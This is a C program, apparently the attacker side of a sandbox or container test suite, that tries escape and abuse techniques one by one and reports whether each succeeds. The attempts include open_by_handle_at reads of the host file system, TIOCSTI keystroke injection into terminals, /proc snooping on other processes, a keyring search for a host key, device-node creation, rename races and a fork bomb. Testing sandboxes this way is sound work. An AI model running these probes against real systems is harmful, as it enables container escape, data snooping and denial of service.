/* SPDX-License-Identifier: Apache-2.0 */
/* The attacker's program: one attempt per word, a line of result each.
   "ok" or the name of the error stands at the end of the line. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *result_of(long result)
{
    return result < 0 ? strerrorname_np(errno) : "ok";
}

static int wait_forever(void)
{
    for (;;)
        pause();
    return 0;
}

static long long now_ms(void)
{
    struct timespec moment;
    clock_gettime(CLOCK_MONOTONIC, &moment);
    return moment.tv_sec * 1000LL + moment.tv_nsec / 1000000;
}

/* call NUMBER ARGUMENT...: one system call with plain numbers */
static int raw_call(char **words)
{
    unsigned long given[7] = {0};
    for (int i = 0; i < 7 && words[i]; i++)
        given[i] = strtoul(words[i], NULL, 0);
    long result = syscall((long)given[0], given[1], given[2], given[3], given[4], given[5], given[6]);
    printf("call %lu %s\n", given[0], result_of(result));
    return 0;
}

/* socket32 FAMILY: socket() by the 32-bit entry */
static int socket32(char **words)
{
    long result;
    __asm__ volatile("int $0x80" : "=a"(result)
                     : "a"(359), "b"(atoi(words[0])), "c"(SOCK_SEQPACKET), "d"(0) : "memory");
    errno = result < 0 ? (int)-result : 0;
    printf("socket32 %s\n", result_of(result));
    return 0;
}

/* handle PATH: open_by_handle_at of inode 2 on the file system of PATH (row S-10) */
static int open_handle(char **words)
{
    struct { unsigned bytes; int type; uint64_t inode; } handle = {8, 1, 2};
    int mount_fd = open(words[0], O_RDONLY);
    int fd = (int)syscall(SYS_open_by_handle_at, mount_fd, &handle, O_RDONLY);
    printf("handle %s\n", result_of(fd));
    if (fd >= 0 && words[1]) {
        int secret = openat(fd, words[1], O_RDONLY);
        printf("through %s\n", result_of(secret));
    }
    return 0;
}

/* exchange A B MILLISECONDS: swap two names as fast as possible */
static int exchange(char **words)
{
    long long end = now_ms() + atoll(words[2]);
    unsigned long swaps = 0;
    while (now_ms() < end)
        for (int i = 0; i < 200; i++)
            swaps += !syscall(SYS_renameat2, AT_FDCWD, words[0], AT_FDCWD, words[1], 2);
    printf("exchanged %lu\n", swaps);
    return 0;
}

/* push TEXT: TIOCSTI into every terminal in reach (row S-13) */
static int push(char **words)
{
    const char *places[] = {"/dev/tty", "/dev/console", "/dev/stdin", "/dev/stdout"};
    for (int place = -4; place < 3; place++) {
        int fd = place < 0 ? open(places[place + 4], O_RDWR | O_NONBLOCK) : place;
        for (const char *at = words[0]; fd >= 0 && *at; at++)
            ioctl(fd, TIOCSTI, at);
    }
    puts("pushed");
    return 0;
}

/* keys: look for the host's key in the session keyring (row S-15) */
static int keys(char **words)
{
    long ring = syscall(SYS_keyctl, 0, -3, 0);
    printf("ring %ld %s\n", ring, result_of(ring));
    long found = syscall(SYS_keyctl, 10, -3, "user", words[0], 0);
    printf("search %s\n", result_of(found));
    return 0;
}

/* nodes: mknod of a character and a block device for every major */
static int nodes(char **words)
{
    unsigned made = 0, opened = 0;
    (void)words;
    for (unsigned kind = 0; kind < 2; kind++)
        for (unsigned major = 0; major < 256; major++) {
            unlink("/tmp/node");
            mode_t mode = (kind ? S_IFBLK : S_IFCHR) | 0666;
            if (mknod("/tmp/node", mode, makedev(major, kind || major != 1 ? 0 : 1)))
                continue;
            if (!kind && !major)
                continue; /* a whiteout: anybody may make one, and it is no device */
            made++;
            int fd = open("/tmp/node", O_RDONLY | O_NONBLOCK);
            opened += fd >= 0;
            if (fd >= 0)
                close(fd);
        }
    printf("made %u opened %u\n", made, opened);
    return 0;
}

/* spy MILLISECONDS: what can be had of processes that come (row S-04) */
static int spy(char **words)
{
    static const char *names[] = {"mem", "root", "exe", "cwd", "environ", "maps"};
    long long end = now_ms() + atoll(words[0]);
    unsigned long looks = 0, hits = 0;
    while (now_ms() < end) {
        DIR *all = opendir("/proc");
        for (struct dirent *entry; all && (entry = readdir(all));) {
            int pid = atoi(entry->d_name);
            char path[300], found[4096], program[64] = "";
            if (pid <= 1 || pid == getpid())
                continue;
            looks++;
            for (int fd = 0; fd < 40; fd++) {
                snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
                ssize_t length = readlink(path, found, sizeof found - 1);
                if (length < 0)
                    continue;
                found[length] = 0;
                if (fd > 2 && strncmp(found, "/proc", 5)) {
                    hits++;
                    printf("fd %d -> %s\n", fd, found);
                }
            }
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            ssize_t length = readlink(path, program, sizeof program - 1);
            if (length > 0 && strstr(program, "toolkit-interpreter")) {
                hits++;
                puts("exe of the interpreter");
                for (unsigned i = 0; i < sizeof names / sizeof *names; i++) {
                    snprintf(path, sizeof path, "/proc/%d/%s", pid, names[i]);
                    int fd = open(path, O_RDONLY);
                    if (fd >= 0) {
                        printf("opened %s\n", names[i]);
                        close(fd);
                    }
                }
            }
        }
        closedir(all);
    }
    printf("looks %lu hits %lu\n", looks, hits);
    return 0;
}

/* bomb: fork until it is refused */
static int bomb(char **words)
{
    int forked = 0;
    (void)words;
    for (; forked < 100000; forked++) {
        int pid = fork();
        if (pid < 0)
            break;
        if (!pid) {
            signal(SIGTERM, SIG_IGN);
            return wait_forever();
        }
    }
    printf("forked %d then %s\n", forked, strerrorname_np(errno));
    fflush(stdout);
    signal(SIGTERM, SIG_IGN);
    return wait_forever();
}

/* zombies COUNT: orphans that nobody reaps, then wait */
static int zombies(char **words)
{
    for (int i = atoi(words[0]); i > 0; i--)
        if (!fork()) {
            if (!fork())
                _exit(0);
            _exit(0);
        }
    puts("left");
    fflush(stdout);
    return wait_forever();
}

/* mount: a tmpfs on /mnt, then wait for it to be looked at */
static int mount_one(char **words)
{
    mkdir(words[0], 0755);
    printf("mount %s\n", result_of(mount("toolkit-attack", words[0], "tmpfs", 0, "")));
    fflush(stdout);
    return words[1] ? wait_forever() : 0;
}

/* hold: ignore every signal that can be ignored */
static int hold(char **words)
{
    (void)words;
    for (int number = 1; number < 65; number++)
        signal(number, SIG_IGN);
    puts("holding");
    fflush(stdout);
    return wait_forever();
}

/* cat PATH...: whether files can be opened, and the first bytes */
static int show(char **words)
{
    for (; *words; words++) {
        char text[200] = "";
        int fd = open(*words, O_RDONLY | O_NONBLOCK);
        ssize_t length = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
        printf("%s %s %.*s\n", *words, result_of(fd), (int)(length < 0 ? 0 : length), text);
    }
    return 0;
}

/* write PATH...: whether files can be opened for writing; nothing is written */
static int writable(char **words)
{
    for (; *words; words++)
        printf("%s %s\n", *words, result_of(open(*words, O_WRONLY)));
    return 0;
}

/* groups: the ids of this process, as the kernel has them */
static int groups(char **words)
{
    gid_t found[65536];
    (void)words;
    int count = getgroups(65536, found);
    printf("ids %u %u:", getuid(), getgid());
    for (int i = 0; i < count; i++)
        printf(" %u", found[i]);
    puts("");
    return 0;
}

int main(int count, char **words)
{
    static const struct { const char *name; int (*attempt)(char **); } attempts[] = {
        {"call", raw_call}, {"socket32", socket32}, {"handle", open_handle},
        {"exchange", exchange}, {"push", push}, {"keys", keys}, {"nodes", nodes}, {"spy", spy},
        {"bomb", bomb}, {"zombies", zombies}, {"mount", mount_one}, {"hold", hold},
        {"show", show}, {"writable", writable}, {"groups", groups},
    };
    for (unsigned i = 0; count > 1 && i < sizeof attempts / sizeof *attempts; i++)
        if (!strcmp(words[1], attempts[i].name))
            return attempts[i].attempt(words + 2);
    return 2;
}
